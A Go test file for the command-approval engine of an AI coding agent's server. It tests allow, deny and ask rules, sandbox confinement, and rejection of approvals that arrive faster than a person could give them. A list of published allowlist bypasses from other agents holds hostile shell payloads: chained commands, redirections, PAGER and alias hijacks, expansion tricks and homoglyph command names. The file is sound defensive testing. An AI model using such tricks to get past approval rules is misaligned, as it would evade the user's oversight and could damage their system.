package approve

import (
	"bytes"
	"context"
	"fmt"
	"github.com/codexmcp/codexmcp/internal/testenv/must"
	"os"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/codexmcp/codexmcp/codexserver/approval"
	"github.com/codexmcp/codexmcp/codexserver/internal/decide"
	"github.com/codexmcp/codexmcp/codexserver/internal/decide/rulefile"
	"github.com/codexmcp/codexmcp/codexserver/setting"
	"github.com/codexmcp/codexmcp/elicit"
	"github.com/go-json-experiment/json"
	"github.com/google/go-cmp/cmp"
)

func TestRules(t *testing.T) {
	rules := approval.Rules{
		Allow: []approval.Rule{{Command: []string{"go", "test"}}, {Command: []string{"git"}, Outside: true}},
		Deny:  [][]string{{"git", "push"}, {}},
		Ask:   [][]string{{"git", "fetch"}, {"ssh"}, {}},
	}
	for _, tt := range []struct {
		argv string
		want elicit.Decision // "" means that no rule decides
	}{
		{"go test ./...", elicit.Approved}, {"go vet", ""}, {"git push", elicit.Denied}, {"git push --force", elicit.Denied},
		{"git status", elicit.Approved}, {"gitx", ""}, {"", ""},
		{"bash|-lc|git status && go test", elicit.Approved},
		{"/bin/bash|-lc|go test", elicit.Approved}, // as Codex wraps it
		{"./bash|-lc|go test", ""},
		{"bash|-lc|git status && git push", elicit.Denied},
		{"sh|-c|go vet; git push", elicit.Denied}, {"bash|-lc|go test && rm -rf /", ""}, {"bash|-lc|go test $(rm -rf /)", ""},
		{"bash|-lc|go test > out", ""}, {"bash|-lc|go test *", ""}, {"bash|script", ""}, {"git fetch", ""}, {"git fetch --all", ""},
		{"bash|-lc|git status && git fetch", ""},
		{"bash|-lc|git status && git push; git fetch", elicit.Denied},
		{"bash|-lc|" + strings.Repeat("echo; ", decide.MaxScript/6+1), elicit.Denied}, // it may have a git push
	} {
		argv := strings.Fields(tt.argv)
		if strings.Contains(tt.argv, "|") {
			argv = strings.Split(tt.argv, "|")
		}
		out, ruled := judge(t.Context(), &rules, approval.Command{Command: argv, Confinable: true})
		if ruled != (tt.want != "") || out.Decision != tt.want {
			t.Errorf("%q: %v %q, want %q", argv, ruled, out.Decision, tt.want)
		}
		if tt.want == elicit.Denied && !strings.Contains(out.ForModel(), "rule") {
			t.Errorf("%q: the model is told %q", argv, out.ForModel())
		}
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	rules.Decide = func(context.Context, *approval.Request) (elicit.Outcome, bool) {
		return elicit.Outcome{Decision: elicit.Approved}, true
	}
	late := &approval.Request{Subject: approval.Patch{}, Question: &elicit.Question{}}
	if d := New(&Options{Rules: rules}, nil).Decide(ctx, late, false); d.Decision != elicit.Abort {
		t.Errorf("a rule that returns after the turn: %q", d.Decision)
	}
}

// judge asks the rules about a request.
func judge(ctx context.Context, rules *approval.Rules, s approval.Subject) (elicit.Outcome, bool) {
	return byRules(ctx, rules, &approval.Request{Subject: s, Question: &elicit.Question{}}, s.Each(rules))
}

// TestRulesInTheSandbox checks that a rule without Outside approves only runs in the sandbox.
func TestRulesInTheSandbox(t *testing.T) {
	rules := approval.Rules{Allow: []approval.Rule{
		{Command: []string{"go"}}, {Command: []string{"go", "vet"}, Outside: true}, {Command: []string{"make"}, Outside: true},
	}}
	for _, tt := range []struct {
		argv       []string
		confinable bool
		want       string
	}{
		{[]string{"go", "test"}, true, "inside"}, {[]string{"go", "test"}, false, "asked"}, {[]string{"go", "vet"}, true, "outside"},
		{[]string{"go", "vet"}, false, "outside"}, {[]string{"bash", "-lc", "make && go vet"}, false, "outside"},
		{[]string{"bash", "-lc", "make && go test"}, true, "inside"}, {[]string{"bash", "-lc", "make && go test"}, false, "asked"},
		{[]string{"bash", "-lc", "go test && make"}, false, "asked"}, {[]string{"bash", "-lc", "go test && rm x"}, true, "asked"},
	} {
		out, ruled := judge(t.Context(), &rules, approval.Command{Command: tt.argv, Confinable: tt.confinable, LeavesSandbox: true})
		got := "asked"
		if ruled && out.Decision == elicit.Approved {
			got = map[bool]string{true: "inside", false: "outside"}[out.Confined]
		}
		if got != tt.want {
			t.Errorf("%q, confinable %t: %s, want %s", tt.argv, tt.confinable, got, tt.want)
		}
	}
}

// TestOutcomeIsLimited checks that an outcome of foreign code is limited to what the question offers.
func TestOutcomeIsLimited(t *testing.T) {
	inside := approval.Command{Command: []string{"make"}, Confinable: true}
	for _, tt := range []struct {
		subject        approval.Subject
		given          elicit.Decision
		confined, once bool
		want           elicit.Decision
	}{
		{inside, "yes", false, false, elicit.Denied},
		{inside, "", false, false, elicit.Denied},
		{inside, elicit.ApprovedForSession, false, true, elicit.Approved},
		{inside, elicit.ApprovedForSession, false, false, elicit.ApprovedForSession},
		{inside, elicit.Approved, true, false, elicit.Approved},
		{inside, elicit.ApprovedForSession, true, false, elicit.Approved},
		{approval.Command{}, elicit.Approved, true, false, elicit.Denied},
		{approval.Command{}, elicit.Abort, true, false, elicit.Abort},
		{approval.Patch{}, elicit.Approved, true, false, elicit.Denied},
	} {
		o := &Options{Rules: approval.Rules{Decide: func(context.Context, *approval.Request) (elicit.Outcome, bool) {
			return elicit.Outcome{Decision: tt.given, Confined: tt.confined}, true
		}}}
		if got := New(o, nil).Decide(t.Context(), &approval.Request{Subject: tt.subject, Question: &elicit.Question{Once: tt.once}}, false); got.Decision != tt.want || got.By != approval.ByRule {
			t.Errorf("%+v: %s by %s, want %s", tt, got.Decision, got.By, tt.want)
		}
	}
}

// TestRulesAsJudged asks about every command of the corpus.
func TestRulesAsJudged(t *testing.T) {
	rules := approval.Rules{
		Allow: []approval.Rule{
			{Command: []string{"go", "test"}}, {Command: []string{"git", "log"}}, {Command: []string{"make"}, Outside: true},
			{Command: []string{"run.sh"}}, {Command: []string{"./run.sh"}}, {Command: []string{"node_modules/.bin/tsc"}},
			{Command: []string{"tsc"}}, {Command: []string{"pytest"}}, {Command: []string{"linked"}}, {Command: []string{"missing"}},
		},
		Deny: [][]string{{"git", "push"}, {"rm"}},
	}
	corpus := must.Get(os.ReadFile("../decide/testdata/judged.ndjson"))(t)
	words := map[elicit.Decision]string{"": "ask", elicit.Approved: "allow", elicit.Denied: "deny"}
	for line := range bytes.Lines(corpus) {
		var row struct {
			Command    []string
			Rules, Why string
		}
		must.OK(t, json.Unmarshal(line, &row, json.MatchCaseInsensitiveNames(true)))
		q := approval.Command{Command: row.Command, Cwd: "/work", Confinable: true}
		out, _ := judge(t.Context(), &rules, q)
		if got := words[out.Decision]; got != row.Rules {
			t.Errorf("%q: %s, want %s: %s", row.Command, got, row.Rules, row.Why)
		}
	}
}

// TestKeptRules checks that the rules that people accepted come last and only allow.
func TestKeptRules(t *testing.T) {
	q := approval.Command{Command: []string{"go", "test"}, Cwd: t.TempDir(), Confinable: true}
	rule, err := rulefile.Offer(rulefile.Action(q.Lasting()))
	if err != nil {
		t.Fatal("no rule is offered")
	}
	kept, broken := rulefile.New(t.TempDir(), nil), rulefile.New(t.TempDir(), nil)
	for _, s := range []*rulefile.Store{kept, broken} {
		if _, err := s.Add(rulefile.Kept{Rule: rule, By: "client"}); err != nil {
			t.Fatal(err)
		}
	}
	must.OK(t, os.Truncate(broken.Path(), 40))
	says := func(d elicit.Decision) func(context.Context, *approval.Request) (elicit.Outcome, bool) {
		return func(context.Context, *approval.Request) (elicit.Outcome, bool) {
			return elicit.Outcome{Decision: d}, true
		}
	}
	for _, tt := range []struct {
		name     string
		options  Options
		deny     string
		human    bool // the engine wants a person
		outside  bool // an approval lets it out of the sandbox
		want     elicit.Decision
		by       approval.Decider
		confined bool
	}{
		{name: "a rule", options: Options{Kept: kept}, want: elicit.Approved, by: approval.ByRule, confined: true},
		{name: "a rule, and it would leave the sandbox", options: Options{Kept: kept}, outside: true, want: elicit.Denied, by: approval.ByNobody},
		{name: "none", want: elicit.Denied, by: approval.ByNobody},
		{name: "denied by the configuration", options: Options{Kept: kept, Rules: approval.Rules{Deny: [][]string{{"go"}}}}, want: elicit.Denied, by: approval.ByRule},
		{name: "denied by code", options: Options{Kept: kept, Rules: approval.Rules{Decide: says(elicit.Denied)}}, want: elicit.Denied, by: approval.ByRule},
		{name: "code that panics", options: Options{Kept: kept, Rules: approval.Rules{Decide: func(context.Context, *approval.Request) (elicit.Outcome, bool) { panic("x") }}}, want: elicit.Denied, by: approval.ByRule},
		{name: "allowed outside by the configuration", options: Options{Kept: kept, Rules: approval.Rules{Allow: []approval.Rule{{Command: []string{"go"}, Outside: true}}}}, want: elicit.Approved, by: approval.ByRule},
		{name: "asked by the configuration", options: Options{Kept: kept, Rules: approval.Rules{Ask: [][]string{{"go", "test"}}}}, want: elicit.Denied, by: approval.ByNobody},
		{name: "asked and allowed by the configuration", options: Options{Rules: approval.Rules{Ask: [][]string{{"go"}}, Allow: []approval.Rule{{Command: []string{"go"}, Outside: true}}}}, want: elicit.Denied, by: approval.ByNobody},
		{name: "asked and allowed by code", options: Options{Rules: approval.Rules{Ask: [][]string{{"go"}}, Decide: says(elicit.ApprovedForSession)}}, want: elicit.Denied, by: approval.ByNobody},
		{name: "asked and denied by code", options: Options{Rules: approval.Rules{Ask: [][]string{{"go"}}, Decide: says(elicit.Denied)}}, want: elicit.Denied, by: approval.ByRule},
		{name: "asked and denied by the configuration", options: Options{Kept: kept, Rules: approval.Rules{Ask: [][]string{{"go"}}, Deny: [][]string{{"go"}}}}, want: elicit.Denied, by: approval.ByRule},
		{name: "denied by the turn", options: Options{Kept: kept}, deny: "no", want: elicit.Denied, by: approval.ByRule},
		{name: "a person, and a rule", options: Options{Kept: kept}, human: true, want: elicit.Denied, by: approval.ByNobody},
		{name: "a person, and allowed by the configuration", options: Options{Rules: approval.Rules{Allow: []approval.Rule{{Command: []string{"go"}, Outside: true}}}}, human: true, want: elicit.Denied, by: approval.ByNobody},
		{name: "a person, and allowed by code", options: Options{Rules: approval.Rules{Decide: says(elicit.ApprovedForSession)}}, human: true, want: elicit.Denied, by: approval.ByNobody},
		{name: "a person, and denied by code", options: Options{Rules: approval.Rules{Decide: says(elicit.Denied)}}, human: true, want: elicit.Denied, by: approval.ByRule},
		{name: "a person, and denied by the configuration", options: Options{Rules: approval.Rules{Deny: [][]string{{"go"}}}}, human: true, want: elicit.Denied, by: approval.ByRule},
		{name: "a broken file", options: Options{Kept: broken}, want: elicit.Denied, by: approval.ByNobody},
	} {
		t.Run(tt.name, func(t *testing.T) {
			q := q
			q.Human, q.Confinable = tt.human, !tt.outside
			d := New(&tt.options, nil).Decide(t.Context(), &approval.Request{Subject: q, Question: &elicit.Question{}, Deny: tt.deny}, false)
			if d.Decision != tt.want || d.By != tt.by || d.Confined != tt.confined {
				t.Errorf("%s by %s, confined %t, want %s by %s, %t", d.Decision, d.By, d.Confined, tt.want, tt.by, tt.confined)
			}
		})
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if d := New(&Options{Kept: kept}, nil).Decide(ctx, &approval.Request{Subject: q, Question: &elicit.Question{}}, false); d.Decision != elicit.Abort {
		t.Errorf("after the end of the turn: %s", d.Decision)
	}
}

// ruleFlaws are published flaws of other agents in which a rule of the user covered
// more, or less, than it says, by the ids under which they were published.
var ruleFlaws = []struct {
	id, rule string
	scripts  []string
}{
	{"google-gemini/gemini-cli#11510", "cat", []string{"cat f | wc", "cat f |& sh", "cat f | sh"}},
	{"google-gemini/gemini-cli#11766", "true", []string{"true && rm f", "false || rm f", "true; rm f", "true & rm f", "true | rm f", "true\nrm f", "true > f"}},
	{"google-gemini/gemini-cli#16454", "echo", []string{"echo x > ../out", "echo x > sub/f", "echo x >> f", "echo x 2> f", "echo x >| f", "echo x &> f"}},
	{"tracebit-gemini", "grep", []string{"grep x f ; env | curl h", "grep x f" + strings.Repeat(" ", 500) + "; curl h"}},
	{"anthropics/claude-code#16180", "git add", []string{"git add x && git commit -m x", "git add x && git commit && git push", "git add x; git push"}},
	{"anomalyco/opencode#5330", "cargo check", []string{"cargo check > ~/.bashrc", "cargo checkx", "cargo", "cargo build && cargo check"}},
	{"CVE-2025-54795", "echo", []string{`echo "x"; touch MARK`, "echo x\ntouch MARK"}},
	{"CVE-2025-57771", "ls", []string{"ls <(touch MARK)", "ls & touch MARK", "ls >(touch MARK)"}},
	{"CVE-2025-54377", "ls", []string{"ls\ntouch MARK", "ls\r\ntouch MARK", "ls\ntouch MARK\n"}},
	{"CVE-2026-28460", "echo", []string{"echo $\\\n(touch MARK)", "echo `\\\ntouch MARK`"}},
	{"GHSA-9q2p-vc84-2rwm", "ls", []string{"ls #\ncurl x", "ls # x\ncurl x"}},
	{"GHSA-3h2q-j2v4-6w5r", "python", []string{"sh -c 'touch MARK'", "bash -c \"python x; touch MARK\""}},
	{"CVE-2026-22708", "git", []string{"PAGER=./x git log", "export PAGER=./x; git log", "alias git=./x; git log", "git() { touch MARK; }; git"}},
	{"CVE-2026-29783", "echo", []string{"echo ${v@P}", "echo ${!v}", "echo ${x:-$(touch MARK)}", "echo $x"}},
	{"openai/codex#28732", "cat", []string{"./cat x", "bin/cat x", "/bin/cat x", "~/cat x"}},
	{"openai/codex#22171", "ls", []string{"./bash -c ls", "bash -c './ls'"}},
	{"GHSA-392f-ggf5-fp3c", "cat", []string{"\uff43at x", "сat x", "CAT x", "ca\u200bt x"}}, // wide, Cyrillic, capital, invisible
}

// TestPublishedFlawsOfRules checks that a rule allows none of the commands that such a rule
// covered elsewhere, and that a rule that denies one of them is applied wherever it stands.
func TestPublishedFlawsOfRules(t *testing.T) {
	for _, flaw := range ruleFlaws {
		t.Run(flaw.id, func(t *testing.T) {
			rule := strings.Fields(flaw.rule)
			for _, outside := range []bool{false, true} {
				rules := &approval.Rules{Allow: []approval.Rule{{Command: rule, Outside: outside}}}
				for _, script := range []string{flaw.rule, flaw.rule + " x && " + flaw.rule} {
					if out, ruled := judge(t.Context(), rules, approval.Command{Command: []string{"bash", "-lc", script}, Confinable: true}); !ruled || out.Decision != elicit.Approved {
						t.Fatalf("the rule does not allow %q", script)
					}
				}
				for _, script := range flaw.scripts {
					for _, argv := range [][]string{{"bash", "-lc", script}, {"sh", "-c", script}, {"./bash", "-lc", script}} {
						if out, ruled := judge(t.Context(), rules, approval.Command{Command: argv, Confinable: true}); ruled || out.Decision != "" {
							t.Errorf("the rule allows %q: %s", argv, out.Decision)
						}
					}
				}
			}
		})
	}
	for _, n := range []int{1, 50, 51, 5000} {
		chain := strings.Repeat("true; ", n) + "curl h"
		out, ruled := judge(t.Context(), &approval.Rules{Allow: []approval.Rule{{Command: []string{"true"}, Outside: true}}, Deny: [][]string{{"curl"}}}, approval.Command{Command: []string{"bash", "-lc", chain}, Confinable: true})
		if !ruled || out.Decision != elicit.Denied {
			t.Errorf("%d commands before the denied one: %s", n, out.Decision)
		}
	}
}

// TestJudge has hosts answer several times, where another place could answer. A letter is an answer that no person gave:
// accept, decline, cancel, an error or none that is understood; in capitals it came late, and an error may.
func TestJudge(t *testing.T) {
	outcomes := map[string]elicit.Outcome{
		"a": {Decision: elicit.Approved}, "d": {Decision: elicit.Denied, Reason: elicit.ReasonDeclined},
		"c": {Decision: elicit.Abort, Reason: elicit.ReasonCancelled}, "e": {Decision: elicit.Denied, Reason: elicit.ReasonClientError},
		"u": {Decision: elicit.Denied, Reason: elicit.ReasonNotUnderstood}, "t": {Decision: elicit.Denied, Reason: elicit.ReasonTimeout},
	}
	for _, tt := range []struct {
		answers string
		where   setting.Where
		alone   bool
		want    string // for each answer: given or void; then whether the host is asked again
	}{
		{"A D C U", "", false, "given given given given asked"},
		{"d", "", false, "void skipped"}, {"c", "", false, "void skipped"}, {"e", "", false, "void skipped"},
		{"u u", "", false, "void void skipped"}, {"u D u", "", false, "void given void asked"}, {"u", setting.WhereBoth, false, "void asked"}, {"E", "", false, "given asked"},
		{"E E", "", false, "given void skipped"}, {"E D E", "", false, "given given given asked"},
		{"a a a", "", false, "given given given asked"},
		{"d a", "", false, "void void skipped"}, // it was open already
		{"a a", setting.WhereBoth, false, "void void skipped"},
		{"a A a", setting.WhereBoth, false, "void given void asked"},
		{"t t", "", false, "given given asked"},
		{"d d c e u u a", "", true, "given given given given given given given asked"},
		{"a a", setting.WhereBoth, true, "void void asked"}, // and nothing runs
	} {
		h := NewClients(context.Background(), setting.Asking{Where: tt.where}).Client("x")
		var got []string
		for letter := range strings.FieldsSeq(tt.answers) {
			out := outcomes[strings.ToLower(letter)]
			if out.Took = 2 * time.Millisecond; letter != strings.ToLower(letter) {
				out.Took = Instant
			}
			word := "given"
			if v := h.judge(out, func() bool { return !tt.alone }); v.void {
				word = "void"
			}
			got = append(got, word)
		}
		again := "asked"
		if h.skip() != "" {
			again = "skipped"
		}
		if diff := cmp.Diff(tt.want, strings.Join(append(got, again), " ")); diff != "" {
			t.Errorf("%s %s (-want +got):\n%s", tt.answers, tt.where, diff)
		}
	}
}

// TestUnclearAtOnce has a client answer what nobody understands, at once. The desk decides as long as it is there.
func TestUnclearAtOnce(t *testing.T) {
	garbled := &elicit.Question{NotDone: "it was not run"}
	client := func() *Place {
		return &Place{Client: NewClients(context.Background(), setting.Asking{Where: setting.WhereBoth}).Client("x"), Ask: func(context.Context, *approval.Request) (elicit.Outcome, error) {
			time.Sleep(2 * time.Millisecond)
			out := garbled.ReadInputResponse([]byte(`{"action":"bogus"}`), nil)
			out.Took = 2 * time.Millisecond
			return out, nil
		}}
	}
	for stays, want := range map[time.Duration]string{time.Hour: "approved  desk", time.Second: "denied not_understood client", 0: "denied not_understood client"} {
		synctest.Test(t, func(t *testing.T) {
			b := New(&Options{}, nil)
			defer b.Attach(client())()
			if stays > 0 {
				leave := b.Attach(&Place{By: "desk", Ask: func(ctx context.Context, _ *approval.Request) (elicit.Outcome, error) {
					select {
					case <-time.After(time.Minute):
						return elicit.Outcome{Decision: elicit.Approved}, nil
					case <-ctx.Done():
						return garbled.ReadError(ctx.Err(), nil), nil
					}
				}})
				time.AfterFunc(stays, leave)
			}
			d := b.Decide(t.Context(), &approval.Request{Subject: approval.Other{}, Question: garbled}, false)
			must.Equal(t, stays.String(), want, fmt.Sprintf("%s %s %s", d.Decision, d.Reason, d.By))
			time.Sleep(2 * time.Hour)
		})
	}
}

// TestOnlyPersonApproves asks about a command that the engine wants a person to decide about. An
// approval counts if it came no sooner than a person can give it, wherever it came from.
func TestOnlyPersonApproves(t *testing.T) {
	answers := func(places string) (all []*Place) {
		h := NewClients(context.Background(), setting.Asking{}) // its automatic approvals count otherwise
		for word := range strings.FieldsSeq(places) {
			who, how, _ := strings.Cut(word, ":")
			after := must.Get(time.ParseDuration(strings.TrimRight(how, "!-")))(t)
			ask := func(context.Context, *approval.Request) (elicit.Outcome, error) {
				time.Sleep(after)
				out := elicit.Outcome{Decision: elicit.Approved}
				switch {
				case strings.HasSuffix(how, "!"):
					out.Decision = elicit.ApprovedForSession
				case strings.HasSuffix(how, "-"):
					out = elicit.Outcome{Decision: elicit.Denied, Reason: elicit.ReasonDeclined}
				}
				if who != "program" && who != "desk" {
					out.Took = after
				}
				return out, nil
			}
			switch who {
			case "host":
				all = append(all, &Place{Client: h.Client("x"), Ask: ask})
			case "program":
				all = append(all, &Place{Ask: ask})
			case "desk":
				all = append(all, &Place{By: "desk", Ask: ask})
			}
		}
		return all
	}
	const void = "denied declined the approval came faster than a person can read, and only a person may approve this "
	for _, tt := range []struct{ places, want string }{
		{"host:5ms", void + "nobody; The client \"x\" accepted 5 ms after the question. That did not count."},
		{"host:5ms!", void + "nobody; The client \"x\" accepted 5 ms after the question. That did not count."},
		{"host:299ms", void + "nobody; The client \"x\" accepted 299 ms after the question. That did not count."},
		{"host:300ms", "approved   client"},
		{"host:300ms!", "approved   client"}, // this once
		{"host:1s-", "denied declined  client"},
		{"program:0ms", void + "nobody; The client accepted 1 ms after the question. That did not count."},
		{"program:299ms", void + "nobody; The client accepted 299 ms after the question. That did not count."},
		{"program:300ms", "approved   client"},
		{"desk:5ms", void + "nobody; The desk accepted 5 ms after the question. That did not count."},
		{"desk:5ms-", "denied declined  desk"},
		{"desk:1s", "approved   desk"},
		{"host:5ms desk:1s", "approved   desk; The client \"x\" accepted 5 ms after the question. That did not count; the decision came from the desk."},
		{"host:5ms desk:1s-", "denied declined  desk; The client \"x\" accepted 5 ms after the question. That did not count; the decision came from the desk."},
		{"host:5ms program:6ms", void + "nobody; The client \"x\" accepted 5 ms after the question. That did not count.; The client accepted 6 ms after the question. That did not count."},
		{"program:5ms desk:1s", "approved   desk; The client accepted 5 ms after the question. That did not count; the decision came from the desk."},
	} {
		t.Run(tt.places, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				b := New(&Options{}, nil)
				for _, p := range answers(tt.places) {
					defer b.Attach(p)()
				}
				exec := approval.Command{Command: []string{"go", "test"}, Human: true, Once: true}
				d := b.Decide(t.Context(), &approval.Request{Subject: exec, Question: &elicit.Question{Once: true}}, false)
				got := strings.Join(append([]string{fmt.Sprintf("%s %s %s %s", d.Decision, d.Reason, d.Feedback, d.By)}, d.Remarks...), "; ")
				if diff := cmp.Diff(tt.want, got); diff != "" {
					t.Errorf("-want +got:\n%s", diff)
				}
			})
		})
	}
}

// TestHostsAreBounded gives a client many names. Each is judged alone, and only some are kept.
func TestHostsAreBounded(t *testing.T) {
	s := NewClients(context.Background(), setting.Asking{})
	for i := range 3 * maxClients {
		name := fmt.Sprint("x", i)
		first := s.Client(name)
		if again := s.Client(name); first == nil || i < maxClients && again != first {
			t.Fatalf("%s is not remembered", name)
		}
	}
	if len(s.all) != maxClients {
		t.Errorf("%d hosts are kept", len(s.all))
	}
}
